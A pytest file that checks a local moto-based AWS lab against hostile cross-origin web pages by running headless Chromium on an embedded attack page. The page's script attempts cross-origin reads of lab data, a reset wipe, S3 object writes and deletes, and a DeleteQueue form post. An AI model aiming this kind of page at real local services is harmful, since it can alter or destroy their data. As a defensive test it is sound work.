"""Issue 10 item 1, in a real browser: a page on another origin gets nothing from the lab.

Headless Chromium (Debian's package; .ci/run installs it) opens a page served from
http://127.0.0.2 that tries what a hostile page would: read moto's data.json and the status
endpoint, wipe the lab through moto's reset, write and delete S3 objects without CORS. Skipped
with the reason where Chromium is missing.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import threading
import time

import pytest

from tests.lab_helpers import make_bucket

PAGE = """<!doctype html><meta charset="utf-8"><title>attack</title><body>
<script>
const lab = "%(lab)s";
const results = {};
async function attempt(name, url, options) {
  try {
    const r = await fetch(url, options);
    const text = (await r.text()).slice(0, 300);
    results[name] = "status " + r.status + " type " + r.type + " body " + text;
  } catch (e) {
    results[name] = "blocked " + e.name;
  }
}
(async () => {
  await attempt("data.json", lab + "/moto-api/data.json");
  await attempt("status", lab + "/_lambdalab/status");
  await attempt("reset", lab + "/moto-api/reset", {method: "POST", mode: "no-cors"});
  const put = {method: "PUT", mode: "no-cors", body: "x"};
  await attempt("put", lab + "/victim-bucket/evil.txt", put);
  await attempt("delete", lab + "/victim-bucket/keep.txt", {method: "DELETE", mode: "no-cors"});
  await attempt("form", lab + "/", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "Action=DeleteQueue&Version=2012-11-05"});
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Page(http.server.BaseHTTPRequestHandler):
    page = ""
    reports: list[dict] = []

    def do_GET(self) -> None:  # noqa: N802
        body = self.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers["Content-Length"])
        Page.reports.append(json.loads(self.rfile.read(length)))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


def test_a_page_on_another_origin_cannot_read_or_change_the_lab(lab, tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("Chromium is not installed (.ci/run installs Debian's chromium)")
    make_bucket(lab, "victim-bucket")
    lab.client("s3").put_object(Bucket="victim-bucket", Key="keep.txt", Body=b"mine")
    Page.page = PAGE % {"lab": lab.endpoint_url}
    Page.reports = []
    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.2:{server.server_address[1]}/attack.html"
    proc = subprocess.Popen(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(600):
            if Page.reports or proc.poll() is not None:
                break
            time.sleep(0.1)
    finally:
        proc.kill()
        proc.wait()
        server.shutdown()
    assert Page.reports, "the page never reported (did Chromium start?)"
    results = Page.reports[0]
    secret = lab.credentials.secret_access_key
    assert secret not in json.dumps(results)
    # Reads: the browser refuses the answer (no CORS header), so the page learns nothing.
    assert results["data.json"].startswith("blocked"), results
    assert results["status"].startswith("blocked"), results
    # Writes with mode "no-cors" are sent, but refused by the lab before moto sees them.
    s3 = lab.client("s3")
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket="victim-bucket")["Contents"]]
    assert keys == ["keep.txt"]
    assert [b["Name"] for b in s3.list_buckets()["Buckets"]] == ["victim-bucket"]
